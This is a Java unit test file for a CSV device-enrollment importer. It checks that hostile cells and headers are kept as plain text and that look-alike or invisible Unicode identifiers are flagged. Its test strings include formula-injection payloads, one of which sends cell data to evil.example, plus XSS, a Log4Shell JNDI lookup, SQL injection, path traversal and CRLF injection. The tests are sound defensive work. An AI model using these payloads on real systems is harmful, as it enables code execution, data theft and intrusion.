package dev.muster.domain.enrollment.row;

import static org.assertj.core.api.Assertions.assertThat;

import dev.muster.domain.enrollment.Fixtures;
import dev.muster.domain.enrollment.csv.ImportLimits;
import dev.muster.domain.enrollment.file.FileWarning;
import dev.muster.domain.manufacturer.IdentifierRules;
import dev.muster.domain.manufacturer.IdentifierScheme;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** To the import, formulas, markup and look-alike letters are only text. */
class InertCellsTest {
    private static final RowRules RULES = new RowRules(IdentifierRules.of(IdentifierScheme.ANY));

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "+1+1",
                "-2+3",
                "@SUM(1;2)",
                "\t=1+1",
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "\"><svg/onload=alert(1)>",
                "<!--#exec cmd=\"ls\"-->",
                "#{facesContext}",
                "${7*7}",
                "${jndi:ldap://evil.example/a}",
                "'; drop table enrollment; --",
                "../../etc/passwd",
                "%00%0d%0aSet-Cookie: a=b",
                "javascript:alert(1)"
            })
    void aHostileTextIsKeptAsItIsInEveryColumn(String text) throws Exception {
        String cell = "\"" + text.replace("\"", "\"\"") + "\"";
        String file =
                "uniqueIdentifier,deviceName,deviceType,parentGateway\n" + String.join(",", cell, cell, cell, cell);
        Fixtures.Read read = Fixtures.readText(file, ImportLimits.DEFAULT);

        assertThat(read.cells()).containsExactly(List.of(text, text, text, text));
        assertThat(RULES.judge(read.rows().get(0).cells()).faults().deviceType())
                .isEqualTo(CellFault.UNKNOWN_TYPE);
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://a\")", "<script>alert(1)</script>", "#{facesContext}"})
    void aHostileHeaderIsAnUnknownColumn(String text) throws Exception {
        String file = "uniqueIdentifier,deviceName,deviceType,\"" + text.replace("\"", "\"\"") + "\"\nA1,a,GATEWAY,x";

        assertThat(Fixtures.readText(file, ImportLimits.DEFAULT).warnings()).containsExactly("unknown-column");
    }

    /** A draft stores its warnings as one line each. */
    @Test
    void aHeaderForgesNoWarningOfItsOwn() throws Exception {
        String file =
                "uniqueIdentifier,deviceName,deviceType,\"x\r\nAll rows are valid.\u202e\u2028y\"\nA1,a,GATEWAY,x";

        assertThat(Fixtures.readText(file, ImportLimits.DEFAULT).reading().warnings())
                .extracting(FileWarning::detail)
                .containsExactly("Column 4, \"x All rows are valid. y\", is not known and was not read.");
    }

    @ParameterizedTest
    @CsvSource({
        "\u0410\u0412C1, LOOKALIKE", "ABC\u0406, LOOKALIKE", "\u0391BC, LOOKALIKE", "\uff21BC, LOOKALIKE",
        "AB\uff11, LOOKALIKE", "A\u2160, LOOKALIKE", "\ud835\udc00BC, LOOKALIKE", "A\u200bB, UNPRINTABLE",
        "A\u202eB, UNPRINTABLE", "A\u00adB, UNPRINTABLE", "A\u00a0B, UNPRINTABLE", "A\ue000B, UNPRINTABLE"
    })
    void anIdentifierThatLooksLikeAnotherIsFlagged(String identifier, CellFault fault) throws Exception {
        String file = "uniqueIdentifier,deviceName,deviceType\n" + identifier + ",a,GATEWAY";
        Fixtures.Read read = Fixtures.readText(file, ImportLimits.DEFAULT);

        assertThat(read.rows().get(0).cells().uniqueIdentifier()).isEqualTo(identifier);
        assertThat(RULES.judge(read.rows().get(0).cells()).faults().uniqueIdentifier())
                .isEqualTo(fault);
    }
}
